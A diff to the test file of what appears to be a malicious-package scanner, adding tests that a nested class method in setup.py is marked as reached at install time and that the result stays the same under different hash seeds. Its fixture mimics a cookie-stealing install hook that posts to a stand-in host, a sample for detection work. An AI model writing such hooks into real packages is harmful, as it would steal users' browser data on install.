@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import json
+import os
+import subprocess
+import sys
 import textwrap
 
 import pytest
@@ -438,3 +442,46 @@ def test_a_setup_branch_on_a_maintainer_command_does_not_run_under_pip():
     # in a module, argv is the importing program's: the same branch counts as reached on import
     found = classifier({"pkg/__init__.py": setup.replace("setup(name='x')\n", "")}, ["pkg/__init__.py"])
     assert found.classify("pkg/__init__.py", 4)[0] == "import-time"
+
+
+NESTED_CLASSES = {"setup.py": """\
+    import requests
+
+    class rcd:
+        class Browsers:
+            class Chromium:
+                def GetCookies(self):
+                    requests.post("https://example.invalid", data=1)  # SEND
+
+    rcd.Browsers.Chromium().GetCookies()
+    setup(name="x")
+    """}
+
+
+def test_a_class_nested_in_a_reached_class_reaches_its_methods():
+    # setup.py: a reached class reaches every method; a class reached through its enclosing
+    # class is reached the same way, not only when its own name happens to be taken first
+    assert vector(NESTED_CLASSES, "setup.py", "# SEND")[0] == INSTALL
+
+
+def test_reach_does_not_depend_on_the_order_of_a_set():
+    # A set's iteration order changes with PYTHONHASHSEED (every process): the same package must
+    # get the same vectors in every process, or a sharded scan's report differs from a single one.
+    code = textwrap.dedent("""\
+        import json, sys
+        from antivenom.vectors import VectorClassifier
+        source = json.loads(sys.argv[1]).encode()
+        def read(path):
+            if path != "setup.py":
+                raise FileNotFoundError(path)
+            return source
+        print(VectorClassifier(read).classify("setup.py", int(sys.argv[2]))[0])
+        """)
+    source = textwrap.dedent(NESTED_CLASSES["setup.py"])
+    line = line_of(NESTED_CLASSES, "setup.py", "# SEND")
+    seen = set()
+    for seed in range(6):
+        done = subprocess.run([sys.executable, "-c", code, json.dumps(source), str(line)], capture_output=True,
+                              text=True, check=True, env={**os.environ, "PYTHONHASHSEED": str(seed)})
+        seen.add(done.stdout.strip())
+    assert seen == {INSTALL}
